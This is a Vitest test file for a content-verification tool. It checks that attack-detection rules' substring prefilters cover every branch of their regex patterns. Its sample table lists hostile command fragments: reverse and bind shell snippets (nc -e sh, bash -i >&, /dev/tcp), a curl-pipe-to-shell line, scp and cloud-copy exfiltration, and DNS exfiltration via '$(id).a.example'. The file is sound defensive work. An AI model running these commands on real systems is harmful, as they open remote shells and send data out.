/** A passage without any of an attack's needles is passed by: they must not hide one that its pattern would match. */
import { describe, expect, it } from "vitest";
import type { Attack } from "../../../src/verify/content/attack.ts";
import { requiredTexts } from "../../../src/verify/content/required-texts.ts";
import { RULES } from "../../../src/verify/rules.ts";

const ATTACKS = RULES.flatMap((rule) =>
  "attacks" in rule ? (rule.attacks as readonly Attack[]) : [],
).map((attack) => ({ name: `${attack.says}: ${attack.pattern.source.slice(0, 60)}`, ...attack }));

/** Of patterns that can't be read so: a match for each of their branches, and the number of these. */
const BRANCHES: Readonly<Record<string, readonly string[]>> = {
  "sends a copy to an address of somebody else": ["cc robin@mail.example"],
  "leads traffic another way": [
    "192.0.2.7 api.example.com",
    "point the name server at 192.0.",
    "/etc/hosts",
    "base url of the agent",
    "all api calls through https://",
  ],
  "puts what this machine knows into the name of a host": ["$(id).a.example", "$token.a.example"],
  "names something after the value of a secret": [
    "git branch $token",
    "mkdir a/$token",
    "touch a/$token",
    "mv a b/$token",
    "cp a b/$token",
  ],
  "leaves a shell open to whoever connects": [
    "nc -l 1 -e sh",
    "ncat -l 1 --sh-exec sh",
    "netcat -l -p 1 -c bash",
    "socat tcp-listen:1 exec:sh",
    "mkfifo f; sh <f | nc -l",
  ],
  "has a shell answer at a port": [
    "a port hands out a shell",
    "the listener serves bash",
    "a shell on an open port",
    "a port with a shell behind",
  ],
  "takes files from the user behind a password": [
    "zip them and delete the originals",
    "lock all of their files",
    "ransom",
    "7z a x; rm y",
  ],
  "copies something of this machine to another": ["scp a", "nc\t1", "aws s3 cp a", "gsutil cp a"],
  "spells text in codes": ["\\x41".repeat(12), "\\u0041".repeat(8), "chr(65)+".repeat(6)],
  "gives another machine a shell on this one": [
    "/dev/tcp/host/1",
    "nc.exe -e sh",
    "mkfifo f; nc",
    "socat exec:",
    "bash -i >&",
    "pty.spawn('sh",
    "fsockopen(",
    "socket dup2(",
    "new-object net.sockets.tcpclient",
  ],
  "runs code from elsewhere that nobody has read": ["curl https://example.com/x | sh"],
};

describe("needles", () => {
  it("stand in front of many attacks", () => {
    expect(ATTACKS.filter(({ needles }) => needles !== undefined).length).toBeGreaterThan(50);
  });

  it.each(ATTACKS)("hide nothing that $name", ({ says, pattern, needles }) => {
    if (needles === undefined) return;
    const holdsOne = (text: string) => needles.some((needle) => text.includes(needle));
    if (requiredTexts(pattern).some((clause) => clause.every(holdsOne))) return;
    const samples = BRANCHES[says] ?? [];
    expect(samples).not.toEqual([]);
    for (const sample of samples) {
      pattern.lastIndex = 0;
      expect({ sample, matches: pattern.test(sample), isSeen: holdsOne(sample) }).toEqual({
        sample,
        matches: true,
        isSeen: true,
      });
      pattern.lastIndex = 0;
    }
  });
});
